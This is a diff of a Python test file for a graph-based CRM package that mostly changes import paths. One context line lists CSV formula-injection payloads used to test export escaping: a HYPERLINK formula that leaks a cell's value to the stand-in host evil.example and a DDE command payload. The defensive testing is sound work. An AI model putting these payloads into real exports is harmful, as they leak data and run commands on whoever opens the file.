@@ -133,7 +133,7 @@ PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", 
 
 
 def spreadsheet_would_run(cell: str) -> bool:
-    from graphcrm.core.csvsafe import FORMULA_START, _NUMBER
+    from graphcrm.loaders.csvsafe import FORMULA_START, _NUMBER
     return cell.startswith(FORMULA_START) and not _NUMBER.match(cell)
 
 
@@ -166,7 +166,7 @@ def injected(tmp_path_factory):
 
 
 def test_csv_exports_escape_formulas_and_keep_the_text(injected, tmp_path):
-    from graphcrm.core.csvsafe import unescape_cell
+    from graphcrm.loaders.csvsafe import unescape_cell
 
     work, snap, payloads = injected
     leaders, part = tmp_path / "leaders.csv", tmp_path / "part.csv"
@@ -376,7 +376,7 @@ def test_a_load_too_big_for_max_memory_fails_before_reading(tmp_path):
     import pyarrow.csv as pacsv
     from isal import igzip
 
-    from loaders._source import estimate_rows
+    from graphcrm.loaders.formats import estimate_rows
 
     n = 50_000_000
     rng = np.random.default_rng(0)
@@ -404,8 +404,8 @@ def test_a_load_too_big_for_max_memory_fails_before_reading(tmp_path):
 def test_erase_a_customer_linked_to_an_account_whose_id_was_escaped_in_csv(tmp_path):
     import pandas as pd
 
-    from graphcrm.core import GraphBuilder
-    from graphcrm.core.snapshot import load_snapshot, save_snapshot
+    from graphcrm.loaders import GraphBuilder
+    from graphcrm.loaders.snapshot import load_snapshot, save_snapshot
     from graphcrm.crm.erase import erase_customer
     from graphcrm.crm.export import write_export
 
@@ -443,7 +443,7 @@ def test_simulate_learned_json_is_valid_when_nothing_was_reached_later(tmp_path)
 
 
 def test_undirected_self_tie_is_one_arc():
-    from graphcrm.core import GraphBuilder
+    from graphcrm.loaders import GraphBuilder
 
     g = GraphBuilder(self_loops="keep").add_edges("friends", [1, 1], [1, 2], [3.0, 5.0], aggregate="sum").build()
     lay = g.layer("friends")
